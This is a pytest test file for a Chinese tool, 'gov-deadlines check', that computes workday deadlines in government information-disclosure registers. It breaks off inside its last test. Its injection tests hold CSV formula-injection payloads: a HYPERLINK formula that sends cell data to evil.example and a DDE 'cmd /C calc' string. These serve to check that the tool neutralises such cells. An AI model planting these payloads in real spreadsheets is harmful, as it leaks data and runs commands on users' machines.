"""``gov-deadlines check``: registers (台账) in, every record out with result columns appended.

Each test writes a real file to ``tmp_path`` and runs the installed script on it. Expected due
dates are counted by hand from the State Council notices in ../shared/data/notices/:

- 2024 (国办发明电〔2023〕7号): 春节 2/10-2/17 off; 2/4 (Sun) and 2/18 (Sun) worked.
  2024-02-08 + 20 workdays: 2/9(1) [2/10-17 off] 2/18(2) 2/19-23(3-7) 2/26-3/1(8-12)
  3/4-8(13-17) 3/11(18) 3/12(19) 3/13(20) -> 2024-03-13.
- 2025 (国办发明电〔2024〕12号): 1/28-2/4 off; 1/26 (Sun) and 2/8 (Sat) worked.
  2025-01-20 + 20 workdays: 1/21-24(1-4) 1/26(5) 1/27(6) [1/28-2/4 off] 2/5-7(7-9) 2/8(10)
  2/10-14(11-15) 2/17-21(16-20) -> 2025-02-21.
- 2020 (国办发明电〔2019〕16号 and 〔2020〕1号): 1/24-2/2 off (the makeup Saturday 2/1 became a
  day off when the holiday was extended); 1/19 (Sun) worked.
  2020-01-20 + 20 workdays: 1/21-23(1-3) [1/24-2/2 off] 2/3-7(4-8) 2/10-14(9-13)
  2/17-21(14-18) 2/24(19) 2/25(20) -> 2020-02-25.
- 2027 has no notice: with ``--unknown-years weekends`` Monday-Friday are assumed. 2027-01-01 is
  a Friday, so 2027-01-05 is a Tuesday: 1/6-8(1-3) 1/11-15(4-8) 1/18-22(9-13) 1/25-29(14-18)
  2/1(19) 2/2(20) -> 2027-02-02 (provisional).
"""

from __future__ import annotations

import codecs
import datetime as dt
import json
import re
from pathlib import Path

import pytest

from .conftest import COLUMNS_EN, COLUMNS_ZH, parse_csv_text, read_csv, write_csv

DUE_2024 = "2024-03-13"
DUE_2025 = "2025-02-21"
DUE_2020 = "2020-02-25"
DUE_2027_ASSUMED = "2027-02-02"

RESULTS = len(COLUMNS_EN)  # appended columns
EN = {name: i for i, name in enumerate(COLUMNS_EN)}

HEADER = ["案号", "收到申请日期", "答复日期", "备注"]
RULE = ("--rule", "ogi.request.reply", "--trigger-col", "收到申请日期", "--done-col", "答复日期")


def result(row: list[str], width: int, name: str) -> str:
    """The appended result column ``name`` of an output row whose input header had ``width``."""
    return row[width + EN[name]]


def assert_cells_kept(inp: list[list[str]], out: list[list[str]]) -> None:
    """Every input record comes out, in order, with its cells unchanged (short rows padded,
    extra cells of long rows after the result columns)."""
    width = len(inp[0])
    assert len(out) == len(inp)
    assert out[0][:width] == inp[0]
    for i, (a, b) in enumerate(zip(inp[1:], out[1:], strict=True), 2):
        padded = a[:width] + [""] * (width - len(a[:width]))
        assert b[:width] == padded, f"record {i}"
        assert b[width + RESULTS :] == a[width:], f"record {i}: extra cells"
        assert len(b) == max(width, len(a)) + RESULTS, f"record {i}: width"


def summary_counts(stderr: str) -> dict[str, int]:
    """The numbers of the English summary line on stderr."""
    m = re.search(
        r"^(\d+) rows: (\d+) on time, (\d+) late, (\d+) pending, (\d+) overdue, "
        r"(\d+) too short, (\d+) invalid, (\d+) errors\b",
        stderr,
        re.MULTILINE,
    )
    assert m, f"no summary line in stderr:\n{stderr}"
    keys = ("rows", "on_time", "late", "pending", "overdue", "too_short", "invalid", "errors")
    return dict(zip(keys, map(int, m.groups()), strict=True))


@pytest.fixture
def basic(tmp_path: Path) -> tuple[Path, list[list[str]]]:
    """A small clean register in UTF-8: two on time, two late."""
    rows = [
        HEADER,
        ["A-1", "2024-02-08", DUE_2024, ""],  # done on the due date: on time
        ["A-2", "2024/2/8", "2024年3月14日", "催办"],  # (3/13, 3/14] = 1 workday late
        ["A-3", "2025-01-20", DUE_2025, ""],
        ["A-4", "2020-01-20", "2020-02-26", ""],  # (2/25, 2/26] = 1 workday late
    ]
    return write_csv(tmp_path / "台账.csv", rows), rows


# ------------------------------------------------------------------------------- encodings


def test_gbk_register_is_detected(cli, tmp_path):
    """A GBK register (Excel/WPS on Chinese Windows) is read without --encoding."""
    rows = [
        HEADER,
        ["京政公开〔2024〕1号", "2024年2月8日", "2024年3月13日", "已答复，邮寄"],
        ["京政公开〔2024〕2号", "2024-02-08", "", "第三方征求意见"],
    ]
    reg = write_csv(tmp_path / "台账.csv", rows, encoding="gbk")
    reg.read_bytes().decode("gbk")  # the file really is GBK ...
    with pytest.raises(UnicodeDecodeError):
        reg.read_bytes().decode("utf-8")  # ... and not UTF-8
    out = tmp_path / "out.csv"
    r = cli("check", reg, *RULE, "-o", out, "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = read_csv(out)
    assert got[0] == HEADER + COLUMNS_EN
    assert_cells_kept(rows, got)
    assert [result(row, 4, "due") for row in got[1:]] == [DUE_2024, DUE_2024]
    assert [result(row, 4, "status") for row in got[1:]] == ["on_time", "pending"]


def test_gbk_register_with_explicit_encoding(cli, tmp_path):
    """--encoding gb18030 reads the same GBK file the same way."""
    rows = [HEADER, ["甲", "2024年2月8日", "", ""]]
    reg = write_csv(tmp_path / "台账.csv", rows, encoding="gbk")
    r = cli("check", reg, *RULE, "--encoding", "gb18030", "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert got[1][:4] == rows[1]
    assert result(got[1], 4, "due") == DUE_2024


def test_utf8_bom_register(cli, tmp_path):
    """A UTF-8 register with a byte order mark: the BOM does not end up in the first column name."""
    rows = [HEADER, ["A-1", "2024-02-08", "", ""]]
    reg = write_csv(tmp_path / "台账.csv", rows, encoding="utf-8-sig")
    assert reg.read_bytes().startswith(codecs.BOM_UTF8)
    r = cli("check", reg, *RULE, "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert got[0][0] == "案号"
    assert got[1][:4] == rows[1]
    assert result(got[1], 4, "due") == DUE_2024


def test_register_with_bom_named_by_first_column(cli, tmp_path):
    """The first column of a BOM file can be named as the trigger column."""
    rows = [["收到申请日期", "案号"], ["2024-02-08", "A-1"]]
    reg = write_csv(tmp_path / "台账.csv", rows, encoding="utf-8-sig")
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期")
    assert r.returncode == 0, r.stderr
    assert result(parse_csv_text(r.stdout)[1], 2, "due") == DUE_2024


# ------------------------------------------------------------------------------------ XLSX


def _text_cell(ws, row: int, col: int, value: str) -> None:
    """A string cell even when it starts with '=' (openpyxl would store a formula)."""
    cell = ws.cell(row=row, column=col, value=value)
    cell.data_type = "s"


def test_xlsx_register_to_xlsx(cli, tmp_path):
    """XLSX in and out: datetime cells, an int Excel serial and text dates are all read; the
    original cells come back with their types, the due dates as dates."""
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    ws.append(HEADER)
    ws.append(["X-1", dt.datetime(2024, 2, 8), dt.datetime(2024, 3, 13), "datetime cells"])
    # Excel serial 45330: 45292 is 2024-01-01 (Excel's well-known serial), + 38 days = 2024-02-08.
    ws.append(["X-2", 45330, "2024年3月14日", "serial + text"])
    ws.append(["X-3", "2024/2/8", None, "text"])
    ws.append(["X-4", dt.date(2025, 1, 20), "2025-02-24", None])  # (2/21, 2/24] = 1 late
    ws.append(["X-5", "2024-02-30", None, "impossible"])
    _text_cell(ws, 7, 1, '=HYPERLINK("http://evil.example","点我")')
    ws.cell(row=7, column=2, value="2020-01-20")
    reg = tmp_path / "台账.xlsx"
    wb.save(reg)

    out = tmp_path / "结果.xlsx"
    r = cli("check", reg, *RULE, "-o", out, "--lang", "en")
    assert r.returncode == 1  # X-5 is an error row
    assert "row 6" in r.stderr  # X-5 sits on sheet row 6
    wb2 = openpyxl.load_workbook(out)
    ws2 = wb2.active
    got = [list(row) for row in ws2.iter_rows(values_only=True)]
    assert len(got) == 7
    assert got[0] == HEADER + COLUMNS_EN
    assert got[1][:4] == [
        "X-1",
        dt.datetime(2024, 2, 8),
        dt.datetime(2024, 3, 13),
        "datetime cells",
    ]
    assert got[2][:4] == ["X-2", 45330, "2024年3月14日", "serial + text"]
    assert got[3][:4] == ["X-3", "2024/2/8", None, "text"]
    assert got[4][:3] == ["X-4", dt.datetime(2025, 1, 20), "2025-02-24"]
    # The output copies the register's workbook: its own text cell stays the same text cell.
    assert got[6][0] == '=HYPERLINK("http://evil.example","点我")'
    assert ws2.cell(row=7, column=1).data_type == "s"  # text, never a formula

    def due(row: list[object]) -> dt.date | None:
        value = row[4 + EN["due"]]
        return value.date() if isinstance(value, dt.datetime) else value

    assert [due(row) for row in got[1:5]] == [
        dt.date(2024, 3, 13),
        dt.date(2024, 3, 13),
        dt.date(2024, 3, 13),
        dt.date(2025, 2, 21),
    ]
    assert due(got[6]) == dt.date(2020, 2, 25)
    statuses = [row[4 + EN["status"]] for row in got[1:]]
    assert statuses == ["on_time", "late", "pending", "late", None, "pending"]
    assert "2024-02-30" in got[5][4 + EN["error"]]


def test_xlsx_sheet_option(cli, tmp_path):
    """--sheet picks a worksheet by name; an unknown one is a usage error naming the sheets."""
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    wb.active.title = "说明"
    wb.active.append(["这一页不是台账"])
    ws = wb.create_sheet("2024年")
    ws.append(["案号", "收到申请日期"])
    ws.append(["S-1", dt.datetime(2024, 2, 8)])
    reg = tmp_path / "台账.xlsx"
    wb.save(reg)
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "--sheet", "2024年")  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert result(parse_csv_text(r.stdout)[1], 2, "due") == DUE_2024
    bad = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
              "--sheet", "Sheet9")  # fmt: skip
    assert bad.returncode == 2
    assert "Sheet9" in bad.stderr and "2024年" in bad.stderr


# ---------------------------------------------------------------------------- date formats


def test_mixed_date_formats(cli, tmp_path):
    """Every way a register writes 2024-02-08 gives the same due date."""
    written = [
        "2024-02-08",
        "2024/2/8",
        "2024/02/08",
        "2024.2.8",
        "2024年2月8日",
        "2024年02月08号",
        "２０２４年２月８日",  # full-width digits
        "20240208",
        "45330",  # Excel serial as text
        " 2024-02-08 ",
        "2024-02-08 09:30",
        "2024-02-08T17:30:00",
    ]
    rows = [["序号", "收到申请日期"]] + [[str(i), w] for i, w in enumerate(written, 1)]
    reg = write_csv(tmp_path / "formats.csv", rows)
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "--lang", "en")  # fmt: skip
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert_cells_kept(rows, got)
    assert [result(row, 2, "due") for row in got[1:]] == [DUE_2024] * len(written)
    assert [result(row, 2, "error") for row in got[1:]] == [""] * len(written)


# -------------------------------------------------------------------------------- bad rows


def test_malformed_rows(cli, tmp_path):
    """Bad records get a reason in the error column; every record still comes out, in order."""
    header = ["案号", "规则", "收到申请日期", "答复日期"]
    rows = [
        header,
        ["M-1", "ogi.request.reply", "2024-02-30", ""],  # impossible date        line 2
        ["M-2", "ogi.request.reply", "", ""],  # empty trigger                    line 3
        ["M-3", "ogi.request.rply", "2024-02-08", ""],  # unknown rule id         line 4
        ["M-4", "ogi.request.reply", "2024-02-08", DUE_2024, "多1", "多2"],  # long  line 5
        ["M-5", "ogi.request.reply", "2024-02-08"],  # short row                  line 6
        [],  # blank line                                                          line 7
        ['M-7 "引号", 逗号\n第二行', "ogi.request.reply", "2024-02-08", ""],  # lines 8-9
        ["M-8", "20wd", "13/02/2024", ""],  # ambiguous order                     line 10
        ["M-9", "", "2024-02-08", ""],  # empty rule                              line 11
    ]
    reg = write_csv(tmp_path / "台账.csv", rows)
    out = tmp_path / "out.csv"
    r = cli("check", reg, "--rule-col", "规则", "--trigger-col", "收到申请日期",
            "--done-col", "答复日期", "-o", out, "--lang", "en")  # fmt: skip
    assert r.returncode == 1
    got = read_csv(out)
    assert_cells_kept(rows, got)
    errors = [result(row, 4, "error") for row in got[1:]]
    statuses = [result(row, 4, "status") for row in got[1:]]
    assert statuses == ["", "", "", "on_time", "pending", "skipped", "pending", "", ""]
    assert "2024-02-30" in errors[0] and "does not exist" in errors[0]
    assert "收到申请日期" in errors[1] and "empty" in errors[1]
    assert "ogi.request.rply" in errors[2] and "ogi.request.reply" in errors[2]
    assert errors[3] == errors[4] == errors[6] == ""
    assert errors[5] == ""  # a blank line is skipped, not an error (issue 9)
    assert "13/02/2024" in errors[7] and "ambiguous" in errors[7]
    assert "规则" in errors[8]
    # the long row's extra cells follow the result columns
    assert got[4][4 + RESULTS :] == ["多1", "多2"]
    assert result(got[4], 4, "due") == DUE_2024
    # error rows carry no result, only the error (and the calendar fingerprint)
    for row, err in zip(got[1:], errors, strict=True):
        if err:
            assert row[4 : 4 + EN["error"]] == [""] * EN["error"]
    # stderr names the file and the line each bad record starts on
    for line in (2, 3, 4, 10, 11):
        assert f"台账.csv row {line}:" in r.stderr
    for line in (5, 6, 7, 8, 9):
        assert f"row {line}:" not in r.stderr
    assert summary_counts(r.stderr) == {
        "rows": 9, "on_time": 1, "late": 0, "pending": 2, "overdue": 0,
        "too_short": 0, "invalid": 0, "errors": 5,
    }  # fmt: skip
    assert "1 rows skipped" in r.stderr


def test_malformed_rows_zh_messages(cli, tmp_path):
    """With --lang zh the error column and stderr speak Chinese."""
    rows = [["案号", "收到申请日期"], ["M-1", ""], []]
    reg = write_csv(tmp_path / "台账.csv", rows)
    out = tmp_path / "out.xlsx"
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "-o", out, "--lang", "zh")  # fmt: skip
    assert r.returncode == 1
    assert "“收到申请日期”列为空" in r.stderr
    assert "跳过1行" in r.stderr  # the blank line: skipped, not an error (issue 9)
    assert "共2行" in r.stderr


# ------------------------------------------------------------------------------- injection

INJECTION = [
    ('=HYPERLINK("http://evil.example/?q="&A1,"点我")', True),
    ("@SUM(A1:A9)", True),
    ("-2+3", True),
    ("+1+cmd|' /C calc'!A0", True),
    ("=1+1", True),
    ("\t=1+1", True),
    ("+1", False),  # a plain number: Excel reads it as 1, no formula
    ("-5", False),
    ("-", False),  # registers' "not applicable"
    ("正常文本", False),
]


def _injection_register(tmp_path: Path) -> tuple[Path, list[list[str]]]:
    rows = [["案号", "收到申请日期", "@备注"]]
    rows += [[f"I-{i}", "2024-02-08", text] for i, (text, _) in enumerate(INJECTION, 1)]
    return write_csv(tmp_path / "台账.csv", rows), rows


def test_injection_neutralised_in_csv(cli, tmp_path):
    """Cells a spreadsheet would run as formulas get a leading apostrophe in CSV output."""
    reg, _ = _injection_register(tmp_path)
    out = tmp_path / "out.csv"
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "-o", out, "--lang", "en")  # fmt: skip
    assert r.returncode == 0, r.stderr
    got = read_csv(out)
    assert got[0][:3] == ["案号", "收到申请日期", "'@备注"]
    for row, (text, risky) in zip(got[1:], INJECTION, strict=True):
        assert row[2] == ("'" + text if risky else text)
        assert result(row, 3, "due") == DUE_2024


def test_injection_neutralised_on_stdout(cli, tmp_path):
    """CSV on stdout is neutralised the same way."""
    reg, _ = _injection_register(tmp_path)
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert [row[2] for row in got[1:]] == [
        "'" + text if risky else text for text, risky in INJECTION
    ]


def test_injection_neutralised_in_xlsx(cli, tmp_path):
    """XLSX output holds the same cells as text, never as formulas."""
    openpyxl = pytest.importorskip("openpyxl")
    reg, _ = _injection_register(tmp_path)
    out = tmp_path / "out.xlsx"
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "-o", out)  # fmt: skip
    assert r.returncode == 0, r.stderr
    ws = openpyxl.load_workbook(out).active
    assert ws.cell(row=1, column=3).value == "'@备注"
    for i, (text, risky) in enumerate(INJECTION, 2):
        cell = ws.cell(row=i, column=3)
        assert cell.data_type != "f"
        assert cell.value == ("'" + text if risky else text)


# ----------------------------------------------------------------------- years not loaded


def _register_2027(tmp_path: Path) -> Path:
    rows = [
        ["案号", "收到申请日期", "答复日期"],
        ["Y-1", "2024-02-08", ""],
        ["Y-2", "2027-01-05", ""],
    ]
    return write_csv(tmp_path / "台账.csv", rows)


def test_unloaded_year_is_an_error_row(cli, tmp_path):
    """A trigger in 2027 (no notice loaded) is an error row naming the year; exit 1."""
    reg = _register_2027(tmp_path)
    r = cli("check", reg, *RULE[:4], "--lang", "en")
    assert r.returncode == 1
    got = parse_csv_text(r.stdout)
    assert len(got) == 3
    assert result(got[1], 3, "due") == DUE_2024
    assert result(got[2], 3, "due") == ""
    assert "2027" in result(got[2], 3, "error")
    assert "row 3" in r.stderr


def test_unloaded_year_weekends_provisional_en(cli, tmp_path):
    """--unknown-years weekends evaluates the 2027 row on Monday-Friday and marks it provisional."""
    reg = _register_2027(tmp_path)
    r = cli("check", reg, *RULE[:4], "--unknown-years", "weekends", "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert got[0][3:] == COLUMNS_EN
    assert [result(row, 3, "due") for row in got[1:]] == [DUE_2024, DUE_2027_ASSUMED]
    assert [result(row, 3, "provisional") for row in got[1:]] == ["false", "true"]
    assert result(got[2], 3, "error") == ""
    assert "provisional" in result(got[2], 3, "explanation")


def test_unloaded_year_weekends_provisional_zh(cli, tmp_path):
    """The same in Chinese: the 临时数据 column is true and the explanation says 临时."""
    reg = _register_2027(tmp_path)
    r = cli("check", reg, *RULE[:4], "--unknown-years", "weekends", "--lang", "zh")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    header = got[0]
    assert header[3:] == COLUMNS_ZH
    col = {name: i for i, name in enumerate(header)}
    assert got[2][col["截止日期"]] == DUE_2027_ASSUMED
    assert got[2][col["临时数据"]] == "true"
    assert got[1][col["临时数据"]] == "false"
    assert "临时" in got[2][col["说明"]]


def test_provisional_workdays_left_in_explanation(cli, tmp_path):
    """The explanation column shows the workdays left as a plain number, even when provisional."""
    # as of 2027-01-10 (Sunday): (1/10, 2/2] holds 1/11-15, 1/18-22, 1/25-29 (15) + 2/1, 2/2 = 17
    reg = _register_2027(tmp_path)
    for lang, words in (("en", "17 workdays left"), ("zh", "剩余17个工作日")):
        r = cli("check", reg, *RULE[:4], "--unknown-years", "weekends", "--as-of", "2027-01-10",
                "--lang", lang)  # fmt: skip
        assert r.returncode == 0, r.stderr
        row = parse_csv_text(r.stdout)[2]
        assert row[3 + EN["workdays_left"]] == "17"
        assert words in row[3 + EN["explanation"]]
        assert "ProvisionalInt" not in r.stdout


# ----------------------------------------------------------------------------- column names


def test_column_names_en(cli, basic, tmp_path):
    """--lang en appends due ... error."""
    reg, _ = basic
    r = cli("check", reg, *RULE, "--lang", "en")
    assert r.returncode == 0, r.stderr
    assert parse_csv_text(r.stdout)[0] == HEADER + COLUMNS_EN


def test_column_names_zh(cli, basic, tmp_path):
    """--lang zh appends 截止日期 ... 错误, and the verdict words are Chinese."""
    reg, _ = basic
    r = cli("check", reg, *RULE, "--lang", "zh")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert got[0] == HEADER + COLUMNS_ZH
    assert [row[4 + 2] for row in got[1:]] == ["按期", "逾期", "按期", "逾期"]


def test_clean_register_results(cli, basic, tmp_path):
    """The clean register: due dates, statuses, lateness, rule and citation per row."""
    reg, rows = basic
    out = tmp_path / "out.csv"
    r = cli("check", reg, *RULE, "-o", out, "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = read_csv(out)
    assert_cells_kept(rows, got)
    col = lambda name: [result(row, 4, name) for row in got[1:]]  # noqa: E731
    assert col("due") == [DUE_2024, DUE_2024, DUE_2025, DUE_2020]
    assert col("status") == ["on_time", "late", "on_time", "late"]
    assert col("workdays_late") == ["", "1", "", "1"]
    assert col("days_late") == ["", "1", "", "1"]
    assert col("rule") == ["ogi.request.reply"] * 4
    assert all("政府信息公开条例" in c and "33" in c for c in col("citation"))
    assert col("error") == [""] * 4
    assert summary_counts(r.stderr) == {
        "rows": 4, "on_time": 2, "late": 2, "pending": 0, "overdue": 0,
        "too_short": 0, "invalid": 0, "errors": 0,
    }  # fmt: skip
    assert f"written to {out}" in r.stderr
    assert r.raw == b""  # with -o nothing goes to stdout


def test_as_of_pending_and_overdue(cli, tmp_path):
    """--as-of tells pending from overdue for rows without a completion date."""
    rows = [["案号", "收到申请日期", "答复日期"], ["P-1", "2024-02-08", ""],
            ["P-2", "2024-01-10", ""]]  # fmt: skip
    # P-2: 2024-01-10 + 20wd: 1/11(1) 1/12(2) 1/15-19(3-7) 1/22-26(8-12) 1/29-2/2(13-17)
    # 2/4 makeup Sun(18) 2/5(19) 2/6(20) -> 2024-02-06.
    # As of 2024-03-01: P-1 left (3/1, 3/13]: 3/4-8(5) 3/11-13(3) = 8; P-2 late (2/6, 3/1]:
    # 2/7 2/8 2/9 [2/10-17 off] 2/18 2/19-23 2/26-3/1 = 3 + 1 + 5 + 5 = 14.
    reg = write_csv(tmp_path / "台账.csv", rows)
    r = cli("check", reg, *RULE, "--as-of", "2024-03-01", "--lang", "en")
    assert r.returncode == 0, r.stderr
    got = parse_csv_text(r.stdout)
    assert [result(row, 3, "due") for row in got[1:]] == [DUE_2024, "2024-02-06"]
    assert [result(row, 3, "status") for row in got[1:]] == ["pending", "overdue"]
    assert result(got[1], 3, "workdays_left") == "8"
    assert result(got[2], 3, "workdays_late") == "14"
    # overdue is a violation
    r2 = cli("check", reg, *RULE, "--as-of", "2024-03-01", "--fail-on-violation")
    assert r2.returncode == 1


# -------------------------------------------------------------------------- output formats


def test_jsonl_output(cli, basic, tmp_path):
    """-o out.jsonl writes one JSON object per record, keyed by the column names."""
    reg, rows = basic
    out = tmp_path / "out.jsonl"
    r = cli("check", reg, *RULE, "-o", out, "--lang", "en")
    assert r.returncode == 0, r.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(rows) - 1  # no header line in JSONL
    objs = [json.loads(line) for line in lines]
    assert all(list(o) == HEADER + COLUMNS_EN for o in objs)
    assert [o["案号"] for o in objs] == ["A-1", "A-2", "A-3", "A-4"]
    assert [o["答复日期"] for o in objs] == [row[2] for row in rows[1:]]
    assert [o["due"] for o in objs] == [DUE_2024, DUE_2024, DUE_2025, DUE_2020]
    assert [o["status"] for o in objs] == ["on_time", "late", "on_time", "late"]


def test_jsonl_result_values_are_json_typed(cli, basic, tmp_path):
    """In JSONL the result flags and counts are JSON values: false/true, numbers, null.

    A string "false" is truthy to every JSON consumer, so it must not stand for false.
    """
    reg, _ = basic
    out = tmp_path / "out.jsonl"
    r = cli("check", reg, *RULE, "-o", out, "--lang", "en")
    assert r.returncode == 0, r.stderr
    first, second = (json.loads(line) for line in out.read_text("utf-8").splitlines()[:2])
    assert first["provisional"] is False
    assert first["workdays_late"] is None
    assert second["workdays_late"] == 1


def test_json_flag_writes_jsonl_to_stdout(cli, basic):
    """check --json without -o writes JSON Lines to stdout."""
    reg, rows = basic
    r = cli("check", reg, *RULE, "--json", "--lang", "en")
    assert r.returncode == 0, r.stderr
    objs = [json.loads(line) for line in r.lines]
    assert len(objs) == len(rows) - 1
    assert objs[2]["due"] == DUE_2025


def test_excel_flag_writes_bom(cli, basic, tmp_path):
    """--excel starts the CSV with a UTF-8 BOM, to a file and to stdout."""
    reg, rows = basic
    out = tmp_path / "out.csv"
    r = cli("check", reg, *RULE, "--excel", "-o", out, "--lang", "en")
    assert r.returncode == 0, r.stderr
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    assert not data[3:].startswith(codecs.BOM_UTF8)
    got = read_csv(out, encoding="utf-8-sig")
    assert got[0] == HEADER + COLUMNS_EN
    assert_cells_kept(rows, got)
    r2 = cli("check", reg, *RULE, "--excel", "--lang", "en")
    assert r2.raw.startswith(codecs.BOM_UTF8)


def test_bom_defaults(cli, basic, tmp_path):
    """Without --excel a CSV file gets a BOM when Excel needs one to read it: Chinese messages
    or Chinese column names. An all-ASCII English report gets none."""
    reg, _ = basic
    zh, en = tmp_path / "zh.csv", tmp_path / "en.csv"
    assert cli("check", reg, *RULE, "-o", zh, "--lang", "zh").returncode == 0
    assert cli("check", reg, *RULE, "-o", en, "--lang", "en").returncode == 0
    assert zh.read_bytes().startswith(codecs.BOM_UTF8)
    assert en.read_bytes().startswith(codecs.BOM_UTF8)  # the register's header is Chinese
    ascii_reg = write_csv(tmp_path / "ascii.csv", [["case", "received"], ["A", "2024-02-08"]])
    plain = tmp_path / "plain.csv"
    r = cli("check", ascii_reg, "--rule", "ogi.request.reply", "--trigger-col", "received",
            "-o", plain, "--lang", "en")  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert not plain.read_bytes().startswith(codecs.BOM_UTF8)
    assert read_csv(plain)[1][2] == DUE_2024


def test_csv_file_line_endings(cli, basic, tmp_path):
    """A CSV file gets RFC 4180 line ends (CRLF) throughout."""
    reg, rows = basic
    out = tmp_path / "out.csv"
    assert cli("check", reg, *RULE, "-o", out, "--lang", "en").returncode == 0
    data = out.read_bytes()
    assert data.count(b"\r\n") == len(rows)
    assert data.count(b"\n") == len(rows)


# ---------------------------------------------------------------------------- atomic output


def _only(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()}


def test_unbalanced_quote_leaves_no_output(cli, tmp_path):
    """A register that breaks after thousands of good rows leaves no output and no temp file."""
    reg = tmp_path / "台账.csv"
    good = "".join(f"G-{i},2024-02-08\r\n" for i in range(5000))
    reg.write_text("案号,收到申请日期\r\n" + good + 'B-1,"2024-02-08\r\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "-o", out)  # fmt: skip
    assert r.returncode == 1
    assert "line 5002" in r.stderr
    assert _only(tmp_path) == {"台账.csv"}


def test_undecodable_bytes_late_in_file_leave_old_output_untouched(cli, tmp_path):
    """GBK bytes past the detection window of a UTF-8 file: exit 1, the old report survives."""
    reg = tmp_path / "台账.csv"
    rows = "".join(f"G-{i},2024-02-08\r\n" for i in range(80_000))  # > 1 MiB of ASCII
    body = ("案号,收到申请日期\r\n" + rows).encode("utf-8") + "坏,2024-02-08\r\n".encode("gbk")
    reg.write_bytes(body)
    out = tmp_path / "out.csv"
    out.write_bytes(b"old report")
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "收到申请日期",
            "-o", out)  # fmt: skip
    assert r.returncode == 1
    assert "line 80002" in r.stderr
    assert "--encoding" in r.stderr
    assert out.read_bytes() == b"old report"
    assert _only(tmp_path) == {"台账.csv", "out.csv"}


def test_missing_column_is_usage_error(cli, basic, tmp_path):
    """A column that is not in the register: exit 2 naming the file and the columns it has."""
    reg, _ = basic
    out = tmp_path / "out.csv"
    r = cli("check", reg, "--rule", "ogi.request.reply", "--trigger-col", "受理日期", "-o", out,
            "--lang", "en")  # fmt: skip
    assert r.returncode == 2
    assert "台账.csv" in r.stderr
    assert "受理日期" in r.stderr
    for name in HEADER:
        assert name in r.stderr
    assert not out.exists()
    assert _only(tmp_path) == {"台账.csv"}


def test_missing_column_zh(cli, basic):
    """The missing-column message in Chinese."""
    reg, _ = basic
    r = cli(
        "check", reg, "--rule", "ogi.request.reply", "--trigger-col", "受理日期", "--lang", "zh"
    )
    assert r.returncode == 2
    assert "没有“受理日期”列" in r.stderr
    assert "案号, 收到申请日期, 答复日期, 备注" in r.stderr


def test_usage_error_keeps_old_output(cli, basic, tmp_path):
    """An unreadable --as-of is a usage error: exit 2, the previous report untouched."""
    reg, _ = basic
    out = tmp_path / "out.csv"
    out.write_bytes(b"old report")
    r = cli("check", reg, *RULE, "--as-of", "2024-13-01", "-o", out)
    assert r.returncode == 2
    assert "2024-13-01" in r.stderr
    assert out.read_bytes() == b"old report"
    assert _only(tmp_path) == {"台账.csv", "out.csv"}


def test_unsupported_output_extension(cli, basic, tmp_path):
    """-o out.xls is refused before anything is written."""
    reg, _ = basic
    r = cli("check", reg, *RULE, "-o", tmp_path / "out.xls")
    assert r.returncode == 2
    assert ".xls" in r.stderr
    assert _only(tmp_path) == {"台账.csv"}


def test_missing_register(cli, tmp_path):
    """A register that does not exist: exit 2, no output."""
    r = cli("check", tmp_path / "nope.csv", *RULE, "-o", tmp_path / "out.csv")
    assert r.returncode == 2
    assert "nope.csv" in r.stderr
    assert _only(tmp_path) == set()


def test_check_needs_a_rule(cli, basic):
    """Neither --rule nor --rule-col is a usage error."""
    reg, _ = basic
    r = cli("check", reg, "--trigger-col", "收到申请日期")
    assert r.returncode == 2


# ------------------------------------------------------------------------------ exit codes


def test_exit_0_when_clean(cli, basic):
    """A register with no error rows exits 0, late rows included."""
    reg, _ = basic
    assert cli("check", reg, *RULE).returncode == 0


def test_exit_1_with_fail_on_violation_and_a_late_row(cli, basic):
    """--fail-on-violation exits 1 when a row is late."""
    reg, _ = basic
    r = cli("check", reg, *RULE, "--fail-on-violation")
    assert r.returncode == 1
    assert len(parse_csv_text(r.stdout)) == 5  # the report is still written


def test_exit_0_with_fail_on_violation_when_all_on_time(cli, tmp_path):
    """--fail-on-violation exits 0 when every row is on time or pending."""
    rows = [["案号", "收到申请日期", "答复日期"], ["A", "2024-02-08", DUE_2024],
            ["B", "2024-02-08", ""]]  # fmt: skip
    reg = write_csv(tmp_path / "台账.csv", rows)
    assert cli("check", reg, *RULE, "--fail-on-violation").returncode == 0


def test_exit_1_with_an_error_row(cli, tmp_path):
    """One unreadable trigger among good rows: exit 1, the report still has every row."""
    rows = [["案号", "收到申请日期"], ["A", "2024-02-08"], ["B", "明天"], ["C", "2024-02-08"]]
    reg = write_csv(tmp_path / "台账.csv", rows)
